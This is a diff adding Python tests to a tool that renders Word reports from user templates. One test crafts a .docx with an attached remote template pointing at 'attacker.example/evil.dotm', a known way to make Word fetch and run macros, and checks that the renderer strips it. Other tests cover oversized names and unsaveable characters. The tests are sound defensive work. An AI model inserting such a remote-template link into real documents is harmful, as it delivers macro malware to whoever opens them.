@@ -249,3 +249,50 @@ def test_a_user_template_still_renders_like_the_shipped_one(workbook, tmp_path: 
     worker = render_untrusted(template.read_bytes(), str(template), context)
     assert worker == inside
     assert docx.Document(io.BytesIO(worker)).paragraphs[0].text.endswith("工作总结")
+
+
+def test_an_attached_remote_template_is_dropped(workbook, tmp_path: Path):
+    """Word fetches an attached template (and runs its macros) when it opens a document:
+    a report never points at one."""
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        b'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://attacker.example/evil.dotm" TargetMode="External"/>'
+        b"</Relationships>"
+    )
+    staged = with_parts(
+        default_template("zh"), tmp_path / "stage.docx", {"word/_rels/settings.xml.rels": rels}
+    )
+    template = docx_with(
+        staged,
+        tmp_path / "remote.docx",
+        "word/settings.xml",
+        "<w:zoom",
+        '<w:attachedTemplate r:id="rId99"/><w:zoom',
+    )
+    out = tmp_path / "r.docx"
+    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
+    assert done.returncode == 0, done.stderr
+    with zipfile.ZipFile(out) as report:
+        for name in report.namelist():
+            content = report.read(name)
+            assert b"attacker.example" not in content and b"attachedTemplate" not in content, name
+    assert docx.Document(out).paragraphs[0].text.endswith("工作总结")
+
+
+def test_a_huge_name_makes_a_short_message(workbook, tmp_path: Path):
+    template = template_with(tmp_path, '{{ figures["a".center(3000000)] }}')
+    done, peak = run_measured(
+        "render", str(workbook), "-t", str(template), "-o", str(tmp_path / "x.docx")
+    )
+    assert_refused(done, peak, says="报告中没有的字段")
+    assert len(done.stderr) < 1000
+
+
+def test_characters_that_cannot_be_saved(workbook, tmp_path: Path):
+    template = template_with(tmp_path, '{{ "\\ud800" }}')
+    done, peak = run_measured(
+        "render", str(workbook), "-t", str(template), "-o", str(tmp_path / "x.docx")
+    )
+    assert_refused(done, peak, says="无法保存的字符")
